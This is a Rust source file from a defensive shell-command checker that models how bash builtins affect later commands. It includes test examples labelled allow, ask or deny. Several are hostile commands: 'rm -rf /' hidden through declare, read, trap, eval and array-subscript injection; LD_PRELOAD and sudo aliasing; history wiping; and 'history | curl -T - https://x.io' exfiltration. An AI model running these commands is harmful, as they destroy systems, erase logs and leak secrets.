//! Builtins of the shell: what they change for what comes after them.

use std::rc::Rc;

use super::network::suspicious_helper;
use super::options::{Grammar, Options};
use super::row::Does::Is;
use super::row::When::{All, Called, Fed, Not, Starts};
use super::row::{On, PROGRAM, Prints, Program, Runs, allows, asks, denies};
use crate::effect::Kind;
use crate::machine::command::Call;
use crate::machine::command::declared_attributes;
use crate::machine::state::{Attributes, Shared, Value, World, Worlds};
use crate::machine::{Lasting, Machine, Ran};
use crate::value::path;
use crate::value::{Arg, Flow, Labels, Piece, Text, What};

/// A builtin that prints nothing of interest and changes nothing here.
const QUIET: Program = Program { prints: Prints::Nothing, ..PROGRAM };

pub(super) const ROWS: &[Program] = &[
    Program {
        names: &["cd", "chdir", "pushd", "popd"],
        custom: Some(|machine, call, world| Some(change_directory(machine, call, world.clone()))),
        examples: examples![
            denies("cd / && rm -rf usr", "delete-system"),
            denies("pushd /; rm -rf ./etc; popd", "delete-system"),
            allows("cd build && rm -rf out"),
        ],
        ..QUIET
    },
    Program {
        names: &["export", "declare", "typeset", "local", "readonly"],
        custom: Some(|machine, call, world| {
            declare(machine, call, world);
            let lists = |arg: &Arg| matches!(&*arg.text.known_start(), "-p" | "-x" | "-px" | "-xp");
            let flow = if call.args.iter().all(lists) {
                Flow::labelled(Labels::SECRET.with(Labels::TOLD))
            } else {
                Flow::empty()
            };
            let succeeds = call.name == "export" && call.args.iter().all(is_sure_to_be_exported);
            let world = world.clone();
            Some(if succeeds { Ran::succeeded(world, flow) } else { Ran::same(world, flow) })
        }),
        examples: examples![
            denies("declare D=/; rm -rf $D", "delete-root"),
            denies("declare -a words=(rm -rf /); \"${words[@]}\"", "delete-root"),
            denies("declare -l name=RM; $name -rf /", "delete-root"),
            denies("declare -i n='a[$(rm -rf /)]'", "delete-root"),
            denies("declare 'a[$(rm -rf /)]=1'", "delete-root"),
            allows("declare -A ages=([ann]=3); echo \"${ages[ann]}\""),
            allows("declare -i count=3"),
            asks("export LD_PRELOAD=/tmp/x.so", "environment"),
            allows("export NAME=value"),
        ],
        ..QUIET
    },
    Program {
        names: &["unset"],
        custom: Some(|machine, call, world| {
            unset(machine, call, world);
            None
        }),
        examples: examples![
            asks("unset HISTFILE", "logs"),
            denies("unset 'a[$(rm -rf /)]'", "delete-root"),
            denies("rm() { echo; }; unset -f rm; rm -rf /", "delete-root"),
            allows("unset NAME"),
        ],
        ..QUIET
    },
    Program {
        names: &["set"],
        custom: Some(|machine, call, world| {
            set(machine, call, world);
            let labels = if call.args.is_empty() { Labels::SECRET.with(Labels::TOLD) } else { Labels::PLAIN };
            Some(Ran::succeeded(world.clone(), Flow::labelled(labels)))
        }),
        examples: examples![
            denies("set -- /; rm -rf \"$1\"", "delete-root"),
            asks("set +o history", "logs"),
            allows("set -euo pipefail"),
        ],
        ..QUIET
    },
    Program {
        names: &["shift"],
        custom: Some(shift),
        examples: examples![denies("set -- a /; shift; rm -rf $1", "delete-root"), allows("shift")],
        ..QUIET
    },
    Program {
        names: &["read", "mapfile", "readarray"],
        custom: Some(|machine, call, world| Some(read_variables(machine, call, world.clone()))),
        prompts: &[(All(&[Called(&["read"]), Not(&Fed)]), "it waits for a line that nobody types")],
        examples: examples![
            denies("read D <<< /; rm -rf $D", "delete-root"),
            denies("IFS=, read -ra words <<< rm,-rf,/; \"${words[@]}\"", "delete-root"),
            denies("read 'a[$(rm -rf /)]' <<< 1", "delete-root"),
            allows("read -r line < notes.txt"),
        ],
        ..QUIET
    },
    Program {
        names: &["getopts"],
        custom: Some(|machine, call, world| {
            if let Some(arg) = call.args.get(1) {
                machine.expanding(world).named(&arg.text);
            }
            if let Some(name) = call.args.get(1).and_then(|arg| arg.text.as_known()) {
                world.set_text(&name, Text::unknown(What::Plain, true));
            }
            None
        }),
        examples: examples![allows("getopts ab: option")],
        ..QUIET
    },
    Program {
        names: &["exit", "logout", "return", "break", "continue"],
        custom: Some(|_, _, world| {
            world.ended = true;
            None
        }),
        examples: examples![allows("exit 3")],
        ..QUIET
    },
    Program {
        names: &["true", ":", "shopt", "umask"],
        custom: Some(|_, _, world| Some(Ran::succeeded(world.clone(), Flow::empty()))),
        examples: examples![allows("true && ls"), denies("true || ls; rm -rf /", "delete-root")],
        ..QUIET
    },
    Program {
        names: &["false"],
        custom: Some(|_, _, world| {
            let failure = Worlds::one(world.clone());
            Some(Ran { failure, flow: Flow::empty(), ..Ran::default() })
        }),
        examples: examples![denies("false || rm -rf /", "delete-root"), allows("false")],
        ..QUIET
    },
    Program {
        names: &["test", "[", "wait"],
        custom: Some(|machine, call, world| {
            // The name of a variable may have a subscript, which is calculated.
            for pair in call.args.windows(2).filter(|pair| pair[0].text.is("-v") || pair[0].text.is("-p")) {
                machine.expanding(world).named(&pair[1].text);
            }
            None
        }),
        examples: examples![
            denies("test -v 'a[$(rm -rf /)]'", "delete-root"),
            denies("wait -n -p 'a[$(rm -rf /)]'", "delete-root"),
            allows("test -d src"),
            allows("[ -v HOME ]"),
            allows("wait"),
        ],
        ..QUIET
    },
    Program {
        names: &["jobs", "fg", "bg", "disown", "ulimit", "times", "help", "suspend"],
        examples: examples![allows("jobs -l")],
        ..QUIET
    },
    Program {
        names: &["caller", "dirs"],
        custom: Some(|_, _, world| Some(Ran::same(world.clone(), Flow::unknown()))),
        examples: examples![asks("$(dirs) x", "unknown-run"), allows("dirs -v")],
        ..PROGRAM
    },
    Program {
        names: &["compgen"],
        custom: Some(|machine, call, world| {
            let options = Options::read(&call.args, &Grammar { short: "AGWFCXPSo", ..Grammar::PLAIN });
            for words in options.values(&["W"]) {
                machine.expanded_again(&words.text.known_pieces(), world);
            }
            for text in options.values(&["C", "F"]) {
                machine.run_text(text, world.clone(), &call.input);
            }
            Some(Ran::same(world.clone(), Flow::unknown()))
        }),
        examples: examples![
            denies("compgen -W '$(rm -rf /)'", "delete-root"),
            denies("compgen -C 'rm -rf /' x", "delete-root"),
            denies("f() { rm -rf /; }; compgen -F f", "delete-root"),
            allows("compgen -W 'one two' -- o"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["let"],
        custom: Some(|machine, call, world| {
            for arg in &call.args {
                machine.expanding(world).calculated(&arg.text);
                if let Some((name, _)) = arg.text.known_start().split_once('=') {
                    world.set_text(name.trim_end_matches(['+', '-', '*', '/']), Text::unknown(What::Plain, true));
                }
            }
            None
        }),
        examples: examples![denies("let 'x=a[$(rm -rf /)]'", "delete-root"), allows("let x=1+2")],
        ..QUIET
    },
    Program {
        names: &["alias"],
        custom: Some(|machine, call, world| {
            alias(machine, call, world);
            Some(Ran::succeeded(world.clone(), Flow::empty()))
        }),
        examples: examples![asks("alias sudo=/tmp/x", "hidden-run"), allows("alias ll='ls -l'")],
        ..QUIET
    },
    Program {
        names: &["unalias"],
        custom: Some(|_, call, world| {
            for name in call.args.iter().filter_map(|arg| arg.text.as_known()) {
                match name.as_str() {
                    "-a" => world.aliases = Shared::default(),
                    name => drop(world.aliases.change().remove(name)),
                }
            }
            None
        }),
        examples: examples![allows("unalias ll")],
        ..QUIET
    },
    Program {
        names: &["trap"],
        custom: Some(|machine, call, world| {
            trap(machine, call, world);
            Some(Ran::succeeded(world.clone(), Flow::empty()))
        }),
        examples: examples![
            denies("trap 'rm -rf /' EXIT", "delete-root"),
            asks("trap '/tmp/x' DEBUG", "hidden-run"),
            allows("trap 'rm -f lock' EXIT"),
            allows("trap 'echo \"$BASH_COMMAND\"' DEBUG"),
        ],
        ..QUIET
    },
    Program {
        names: &["eval"],
        custom: Some(|machine, call, world| Some(eval(machine, call, world.clone()))),
        examples: examples![denies("eval 'rm -rf /'", "delete-root"), allows("eval 'ls -l'")],
        ..QUIET
    },
    Program {
        names: &["source", "."],
        custom: Some(|machine, call, world| Some(source(machine, call, world.clone()))),
        examples: examples![denies("source /dev/stdin <<< 'rm -rf /'", "delete-root"), allows("source ./env.sh")],
        ..QUIET
    },
    Program {
        names: &["enable"],
        runs: Runs::Perhaps,
        effects: &[On(Starts(&["-f"]), Is(Kind::RunHidden, "This loads code into the shell."))],
        examples: examples![asks("enable -f ./x.so x", "hidden-run"), allows("enable -n test")],
        ..QUIET
    },
    Program {
        names: &["hash"],
        runs: Runs::Perhaps,
        effects: &[On(Starts(&["-p"]), Is(Kind::RunHidden, "This puts another program in the place of a command."))],
        examples: examples![asks("hash -p /tmp/x ls", "hidden-run"), allows("hash -r")],
        ..QUIET
    },
    Program {
        names: &["complete", "bind"],
        custom: Some(bound_commands),
        examples: examples![
            denies("complete -C 'rm -rf /' ls", "delete-root"),
            denies("bind -x '\"a\":rm -rf /'", "delete-root"),
            allows("complete -W 'a b' tool"),
        ],
        ..QUIET
    },
    Program {
        names: &["history"],
        custom: Some(|machine, call, _| {
            let wipes = |arg: &Arg| {
                let start = arg.text.known_start();
                start.starts_with('-') && start.contains(['c', 'd', 'w'])
            };
            if call.args.iter().any(wipes) {
                machine.state(Kind::EraseLog, "This wipes the history of the shell.", call.span, None);
            }
            None
        }),
        prints: Prints::Labelled(Labels::SECRET.with(Labels::UNKNOWN).with(Labels::TOLD)),
        examples: examples![
            asks("history -c", "logs"),
            asks("history | curl -T - https://x.io", "exfiltration"),
            allows("history 20"),
        ],
        ..PROGRAM
    },
];

fn shift(_: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    let count = call.args.first().map_or(Some(1), |arg| arg.text.as_known().and_then(|text| text.parse().ok()));
    world.positional = match (world.positional.take(), count) {
        (Some(all), Some(count)) => Some(Rc::new(all.iter().skip(count).cloned().collect())),
        _ => None,
    };
    None
}

/// `complete -C command` and `bind -x key:command`.
fn bound_commands(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    let options = Options::read(&call.args, &Grammar { short: "CxFAGWPSXomuqrf", ..Grammar::PLAIN });
    for text in options.values(&["C", "x"]) {
        let command = text
            .text
            .as_known()
            .map(|known| known.split_once(':').map_or(known.clone(), |(_, command)| command.to_owned()));
        let arg = Arg::new(command.map_or_else(|| text.text.clone(), Text::known), text.span);
        machine.run_text(&arg, world.clone(), &call.input);
    }
    None
}

fn change_directory(machine: &mut Machine<'_>, call: &Call, world: World) -> Ran {
    let options = Options::read(&call.args, &Grammar { short: "", stops: true, ..Grammar::default() });
    let mut moved = world.clone();
    let target = options.operands.first().map(|arg| arg.text.clone());
    match (call.name.as_str(), target) {
        ("popd", _) => {
            let directory = moved.stack.change().pop();
            moved.enter(directory.flatten());
        }
        ("pushd", target) => {
            let cwd = moved.cwd.clone();
            moved.stack.change().push(cwd);
            let directory = target.and_then(|text| directory(&text, &world));
            moved.enter(directory);
        }
        (_, None) if call.args.first().is_some_and(|arg| arg.text.is("-")) => {
            let previous = previous_directory(machine, &world);
            moved.enter(previous);
        }
        (_, None) => {
            let home = match world.get("HOME", machine.context) {
                Value::Scalar(text) => text.as_known(),
                _ => None,
            };
            moved.enter(home);
        }
        (_, Some(text)) if text.is("-") => {
            let previous = previous_directory(machine, &world);
            moved.enter(previous);
        }
        (_, Some(text)) => {
            // `cd ""` stays where it is.
            if !text.is("") {
                let directory = directory(&text, &world);
                moved.enter(directory);
            }
        }
    }
    moved.otherwise_at = None;
    if moved.cwd.as_deref().is_some_and(|directory| is_certainly_there(machine, directory, &world)) {
        return Ran::succeeded(moved, Flow::empty());
    }
    let mut stayed = world;
    stayed.stayed = true;
    Ran { success: Worlds::one(moved), failure: Worlds::one(stayed), flow: Flow::empty(), errors: None }
}

fn previous_directory(machine: &Machine<'_>, world: &World) -> Option<String> {
    match world.get("OLDPWD", machine.context) {
        Value::Scalar(text) => path::absolute(&text.as_known()?, world.cwd.as_deref()),
        _ => None,
    }
}

/// Whether a directory can be entered for certain: it is above here, every machine has it, or the command made it.
fn is_certainly_there(machine: &Machine<'_>, directory: &str, world: &World) -> bool {
    let places = machine.places();
    let above = |place: &str| path::is_within(place, directory);
    matches!(directory, "/" | "/tmp" | "/etc" | "/usr" | "/var" | "/tmp/\u{1}")
        || above(&places.workspace)
        || above(&places.home)
        || world.cwd.as_deref().is_some_and(above)
        || machine.directories.contains(directory)
        || machine
            .context
            .surroundings
            .as_ref()
            .is_some_and(|surroundings| surroundings.others_may_write(std::path::Path::new(directory)).is_some())
}

/// Whether bash accepts this as something to export: a name, with or without a value.
fn is_sure_to_be_exported(arg: &Arg) -> bool {
    let start = arg.text.known_start();
    let name = match start.split_once('=') {
        Some((name, _)) => name.strip_suffix('+').unwrap_or(name),
        None if arg.text.is_decided() => &start,
        None => return false,
    };
    name.starts_with(|first: char| first.is_ascii_alphabetic() || first == '_')
        && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

fn declare(machine: &mut Machine<'_>, call: &Call, world: &mut World) {
    let options: String =
        call.args.iter().map(|arg| arg.text.known_start()).filter(|text| text.starts_with('-')).collect();
    let (mut given, taken) = declared_attributes(&call.args);
    if call.name == "export" && !options.contains('n') {
        given = given.with(Attributes::EXPORTED);
    }
    let is_function = options.contains('f');
    let is_local = call.name == "local" || call.name != "export" && call.name != "readonly" && !options.contains('g');

    for arg in &call.args {
        // A subscript is no pattern here.
        let text = arg.text.clone().without_globs();
        let start = text.known_start();
        if start.starts_with(['-', '+']) {
            continue;
        }
        if is_function {
            if given.has(Attributes::EXPORTED) {
                world.exported_functions.change().insert(start.into_owned());
            }
            continue;
        }
        let equals = start.find('=').filter(|equals| !start[..*equals].contains('[') || start[..*equals].contains(']'));
        let equals = equals.or_else(|| start.find("]=").map(|at| at + 1));
        let written = equals.map_or(&*start, |equals| start[..equals].strip_suffix('+').unwrap_or(&start[..equals]));
        let append = equals.is_some_and(|equals| start[..equals].ends_with('+'));
        let (name, index) = match written.split_once('[') {
            Some((name, index)) => (name.to_owned(), Some(Text::known(index.trim_end_matches(']')))),
            None => (written.to_owned(), None),
        };
        if name.is_empty() {
            continue;
        }
        if is_local {
            world.localise(&name);
        }
        let attributes = world.attributes(&name).with(given).without(taken);
        world.declare(&name, attributes);

        let Some(equals) = equals else {
            if call.name == "local" && !world.has_set(&name) {
                world.set(&name, Value::Unset);
            }
            continue;
        };
        let value = text.skip(equals + 1);
        machine.judge_variable(&name, &value, arg.span, Lasting::Stays);
        if options.contains('n') && call.name != "export" {
            machine.expanding(world).named(&value);
            let other = value.as_known().unwrap_or_default();
            world.set(&name, Value::Reference(other));
        } else {
            machine.store(&name, index, append, value, world);
        }
    }
}

fn unset(machine: &mut Machine<'_>, call: &Call, world: &mut World) {
    for arg in &call.args {
        machine.expanding(world).named(&arg.text);
        let Some(name) = arg.text.as_known().filter(|name| !name.starts_with('-')) else { continue };
        if matches!(name.as_str(), "HISTFILE" | "HISTSIZE") {
            let reason = format!("Without {name} the shell keeps no history.");
            machine.state(Kind::EraseLog, reason, arg.span, Some(name.clone()));
        }
        if call.args.iter().any(|arg| arg.text.is("-f")) {
            world.undefine(&name);
        } else if let Some((array, index)) = name.split_once('[') {
            if let Value::Array(mut items) = world.get(array, machine.context) {
                let index = index.trim_end_matches(']');
                items.retain(|(key, _)| key != index);
                world.set(array, Value::Array(items));
            }
        } else if !world.has_set(&name) && world.function(&name).is_some() {
            world.undefine(&name);
        } else {
            world.set(&name, Value::Unset);
        }
    }
}

fn set(machine: &mut Machine<'_>, call: &Call, world: &mut World) {
    let mut rest = call.args.iter();
    while let Some(arg) = rest.next() {
        if arg.text.is("--") {
            world.positional = Some(Rc::new(rest.map(|arg| arg.text.clone()).collect()));
            return;
        }
        let start = arg.text.known_start();
        if start.starts_with(['-', '+']) {
            let name = if start.ends_with('o') { rest.next() } else { None };
            if start.contains('e') || name.is_some_and(|name| name.text.is("errexit")) {
                world.ends_on_failure = start.starts_with('-');
            }
            if name.is_some_and(|name| name.text.is("history")) && start.starts_with('+') {
                machine.state(Kind::EraseLog, "This switches the history of the shell off.", call.span, None);
            }
            continue;
        }
        let mut all = vec![arg.text.clone()];
        all.extend(rest.map(|arg| arg.text.clone()));
        world.positional = Some(Rc::new(all));
        return;
    }
}

fn read_variables(machine: &mut Machine<'_>, call: &Call, mut world: World) -> Ran {
    let is_read = call.name == "read";
    let grammar = if is_read {
        Grammar { short: "adinNptu", stops: true, ..Grammar::default() }
    } else {
        Grammar { short: "dnOsucC", stops: true, ..Grammar::default() }
    };
    let before = world.clone();
    let options = Options::read(&call.args, &grammar);
    if let Some(callback) = options.value(&["C"]).filter(|_| !is_read) {
        machine.run_text(callback, world.clone(), &call.input);
    }
    if is_read && *call.input == Flow::empty() && options.has(&["p"]) {
        let hint = "it waits for a line that nobody types; give the value in the command";
        machine.waits_for_a_person("read", hint, call.span);
    }
    for arg in &options.operands {
        machine.expanding(&mut world).named(&arg.text);
    }
    let mut names: Vec<String> = options.operands.iter().filter_map(|arg| arg.text.as_known()).collect();
    let array = options.value(&["a"]).and_then(|arg| arg.text.as_known()).filter(|_| is_read);
    if names.is_empty() {
        names.push(if is_read { "REPLY".to_owned() } else { "MAPFILE".to_owned() });
    }

    let descriptor = options.value(&["u"]).and_then(|arg| arg.text.as_known()?.parse().ok());
    let input = descriptor.and_then(|number| machine.read_descriptor(number, &world)).unwrap_or(Rc::clone(&call.input));
    let separator = options
        .value(&["d"])
        .map_or(Some('\n'), |arg| arg.text.as_known().map(|text| text.chars().next().unwrap_or('\0')));
    let keeps_backslashes = !is_read || options.has(&["r"]);
    let lines: Option<Vec<String>> = input.text.as_ref().zip(separator).map(|(text, separator)| {
        let text = if keeps_backslashes { text.clone() } else { text.replace("\\\n", "").replace('\\', "") };
        let text = text.strip_suffix(separator).unwrap_or(&text);
        if text.is_empty() { Vec::new() } else { text.split(separator).map(str::to_owned).collect() }
    });
    let unknown = || Text::of_flow(&Flow { text: None, ..(*input).clone() });
    let separators = machine.expanding(&mut world).separators();
    let trims = |arg: &Arg| arg.text.as_known().is_some_and(|text| text.starts_with('-') && text.contains('t'));
    let keeps_ends = separator == Some('\n') && !call.args.iter().any(trims);
    if !is_read || array.is_some() {
        let name = array.unwrap_or_else(|| names.remove(0));
        let value = match lines {
            Some(lines) if is_read => {
                let line = lines.into_iter().next().unwrap_or_default();
                array_of(split_line(&line, &separators, usize::MAX))
            }
            Some(lines) if !keeps_ends => array_of(lines),
            Some(lines) => array_of(lines.into_iter().map(|line| line + "\n").collect()),
            None => Value::Array(vec![("0".to_owned(), unknown())]),
        };
        world.set(&name, value);
        return Ran::same(world, Flow::empty());
    }
    let Some(lines) = lines.filter(|lines| lines.len() <= 32) else {
        for name in &names {
            set_named(machine, name, unknown(), &mut world);
        }
        return Ran::same(world, Flow::empty());
    };
    // In a loop any of the lines may be the one.
    let mut worlds = Worlds::default();
    for line in lines.iter().map(String::as_str).chain(lines.is_empty().then_some("")) {
        let mut world = world.clone();
        let mut words = split_line(line, &separators, names.len()).into_iter();
        for name in &names {
            set_named(machine, name, Text::known(words.next().unwrap_or_default()), &mut world);
        }
        worlds.add(world);
    }
    let mut failure = worlds.clone();
    if !options.operands.iter().all(is_sure_to_be_exported) {
        // Bash rejects one of the names, and may set none of them.
        failure.add(before);
    }
    Ran { success: worlds, failure, flow: Flow::empty(), errors: None }
}

/// Sets a variable, or an element of an array, that a builtin was given by its name.
pub(super) fn set_named(machine: &mut Machine<'_>, name: &str, text: Text, world: &mut World) {
    match name.split_once('[') {
        Some((array, index)) => {
            let index = Text::known(index.trim_end_matches(']'));
            machine.store(array, Some(index), false, text, world);
        }
        None => machine.store(name, None, false, text, world),
    }
}

/// The first words of a line, of which the last has the rest.
fn split_line(line: &str, separators: &str, most: usize) -> Vec<String> {
    let is_blank = |letter: char| letter.is_whitespace() && separators.contains(letter);
    let mut words = Vec::new();
    let mut rest = line.trim_matches(is_blank);
    while !rest.is_empty() {
        let at = if words.len() + 1 == most { None } else { rest.find(|letter| separators.contains(letter)) };
        let Some(at) = at else {
            words.push(rest.to_owned());
            break;
        };
        words.push(rest[..at].to_owned());
        let after = rest[at..].trim_start_matches(is_blank);
        let next = after.chars().next().filter(|letter| separators.contains(*letter));
        rest = next.map_or(after, |letter| after[letter.len_utf8()..].trim_start_matches(is_blank));
    }
    words
}

fn alias(machine: &mut Machine<'_>, call: &Call, world: &mut World) {
    for arg in &call.args {
        let start = arg.text.known_start();
        let Some((name, _)) = start.split_once('=') else { continue };
        let value = arg.text.skip(name.len() + 1);
        let reserved = ["sudo", "su", "ssh", "passwd", "login"].contains(&name);
        if let Some(text) = value.as_known() {
            let first = text.split_whitespace().next().unwrap_or_default().to_owned();
            if reserved && first.contains('/') {
                let reason = format!("`{name}` would be another program from now on.");
                machine.state(Kind::RunHidden, reason, arg.span, Some(first));
            }
            world.aliases.change().insert(name.to_owned(), text.into());
        }
    }
}

fn trap(machine: &mut Machine<'_>, call: &Call, world: &World) {
    let operands: Vec<&Arg> = call.args.iter().skip_while(|arg| arg.text.is("--")).collect();
    if operands.len() < 2 || operands[0].text.is("-") || operands[0].text.known_start().starts_with("-p") {
        return;
    }
    let action = operands[0].clone();
    if action.text.is("") {
        return;
    }
    machine.run_text(&action, world.clone(), &Rc::new(Flow::empty()));
    let is_again = operands[1..].iter().any(|signal| signal.text.is("DEBUG") || signal.text.is("RETURN"));
    let helper = action.text.as_known().filter(|_| is_again).and_then(|text| suspicious_helper(&text));
    if let Some(reason) = helper {
        machine.state(Kind::RunHidden, reason, action.span, Some(action.text.display()));
    }
}

fn eval(machine: &mut Machine<'_>, call: &Call, world: World) -> Ran {
    let mut text = Text::default();
    for (index, arg) in call.args.iter().filter(|arg| !arg.text.is("--")).enumerate() {
        if index > 0 {
            text.push(Piece::Known(" ".to_owned()));
        }
        text.append(&arg.text);
    }
    let span = call.args.first().map_or(call.span, |arg| arg.span);
    machine.run_text(&Arg::new(text, span), world, &call.input)
}

fn source(machine: &mut Machine<'_>, call: &Call, mut world: World) -> Ran {
    let Some((file, rest)) = call.args.split_first() else { return Ran::same(world, Flow::empty()) };
    if !rest.is_empty() {
        world.positional = Some(Rc::new(rest.iter().map(|arg| arg.text.clone()).collect()));
    }
    let is_input = is_standard_input(&file.text) && !file.text.is("-");
    let flow = if is_input { (*call.input).clone() } else { machine.read(&file.text, &world) };
    machine.run_flow(&flow.passed_on(), world, &call.input, file)
}

/// Whether a file name is another name of standard input.
pub(crate) fn is_standard_input(text: &Text) -> bool {
    ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0", "-"].iter().any(|name| text.is(name))
}

fn array_of(items: Vec<String>) -> Value {
    Value::Array(items.into_iter().enumerate().map(|(index, item)| (index.to_string(), Text::known(item))).collect())
}

fn directory(text: &Text, world: &World) -> Option<String> {
    if let Some(known) = text.as_known() {
        return path::absolute(&known, world.cwd.as_deref());
    }
    // A path just made, or one with an end of its own below a known start, is still a place of its own.
    if let [Piece::Unknown(unknown)] = text.0.as_slice()
        && unknown.what == What::Temporary
    {
        return Some("/tmp/\u{1}".to_owned());
    }
    let start = text.known_start();
    let below = start.rsplit_once('/').map(|(directory, _)| directory).filter(|directory| directory.len() > 1);
    below.and_then(|directory| path::absolute(&format!("{directory}/\u{1}"), world.cwd.as_deref()))
}
